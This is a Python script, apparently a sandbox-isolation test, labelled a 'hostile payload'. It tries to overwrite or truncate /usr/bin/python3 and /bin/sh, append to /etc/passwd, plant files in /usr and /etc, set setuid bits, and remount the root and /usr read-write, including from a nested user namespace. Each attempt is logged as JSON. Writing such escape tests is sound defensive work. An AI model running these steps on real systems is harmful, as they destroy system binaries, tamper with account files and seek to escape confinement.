"""Hostile payload (filesystem): write to the runtime the sandbox shares with the host (/usr, /etc),
then try to remount it read-write, directly and from a nested user namespace, and write again.
One JSON line per attempt on stdout."""
import ctypes
import errno
import json
import os

libc = ctypes.CDLL(None, use_errno=True)
MS_REMOUNT, MS_BIND = 0x20, 0x1000
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000


def report(op, ret, err=None, **extra):
    line = {"op": op, "ret": ret, "errno": errno.errorcode.get(err, str(err)) if err else None}
    line.update(extra)
    print(json.dumps(line), flush=True)


def attempt(op, fn, *args, **extra):
    try:
        ret = fn(*args)
        report(op, 0 if ret is None else ret, **extra)
        return True
    except OSError as e:
        report(op, -1, e.errno, **extra)
        return False


def open_write(path, flags):
    fd = os.open(path, flags, 0o755)
    try:
        os.write(fd, b"#!/bin/sh\necho pwned\n")
    finally:
        os.close(fd)


def write_runtime(tag):
    targets = [
        ("/usr/bin/sbx-hostile-planted", os.O_WRONLY | os.O_CREAT | os.O_EXCL),
        ("/usr/bin/python3", os.O_WRONLY | os.O_TRUNC),
        ("/usr/bin/python3", os.O_WRONLY | os.O_APPEND),
        ("/usr/lib/os-release", os.O_WRONLY | os.O_APPEND),
        ("/etc/passwd", os.O_WRONLY | os.O_CREAT | os.O_APPEND),
        ("/etc/sbx-hostile-planted", os.O_WRONLY | os.O_CREAT),
        ("/etc/ssl/certs/sbx-hostile.pem", os.O_WRONLY | os.O_CREAT),
        ("/bin/sh", os.O_WRONLY | os.O_TRUNC),
    ]
    for path, flags in targets:
        attempt(tag + "write_runtime", open_write, path, flags, path=path)
    attempt(tag + "write_runtime", os.mkdir, "/usr/sbx-hostile-dir", path="/usr/sbx-hostile-dir")
    attempt(tag + "write_runtime", os.unlink, "/usr/bin/python3", path="unlink /usr/bin/python3")
    attempt(tag + "write_runtime", os.rename, "/usr/bin/env", "/usr/bin/env.x", path="rename /usr/bin/env")
    attempt(tag + "write_runtime", os.chmod, "/usr/bin/python3", 0o4777, path="chmod /usr/bin/python3")
    attempt(tag + "write_runtime", os.utime, "/usr/bin/python3", (0, 0), path="utime /usr/bin/python3")
    attempt(tag + "write_runtime", os.link, "/workspace/main.py", "/usr/bin/sbx-hostile-link",
            path="link into /usr/bin")
    attempt(tag + "write_runtime", os.symlink, "/workspace/main.py", "/etc/sbx-hostile-link",
            path="symlink into /etc")


def remount(op, target, flags):
    if libc.mount(None, target.encode(), None, flags, None) != 0:
        raise OSError(ctypes.get_errno(), "mount")


def remount_all(tag):
    """Remounts without MS_RDONLY (read-write); True if any of them worked."""
    done = [
        attempt(tag + "remount", remount, "remount", "/", MS_REMOUNT | MS_BIND, path="/"),
        attempt(tag + "remount", remount, "remount", "/usr", MS_REMOUNT | MS_BIND, path="/usr"),
        attempt(tag + "remount", remount, "remount", "/usr", MS_REMOUNT, path="/usr (superblock)"),
        attempt(tag + "remount", remount, "remount", "/etc/ssl/certs", MS_REMOUNT | MS_BIND,
                path="/etc/ssl/certs"),
    ]
    return any(done)


def unshare(flags):
    if libc.unshare(flags) != 0:
        raise OSError(ctypes.get_errno(), "unshare")


write_runtime("")
if remount_all(""):
    write_runtime("after_remount_")
# The route to CAP_SYS_ADMIN over a mount namespace: a nested user namespace.
if attempt("unshare", unshare, CLONE_NEWUSER | CLONE_NEWNS):
    remount_all("nested_")
    write_runtime("nested_")
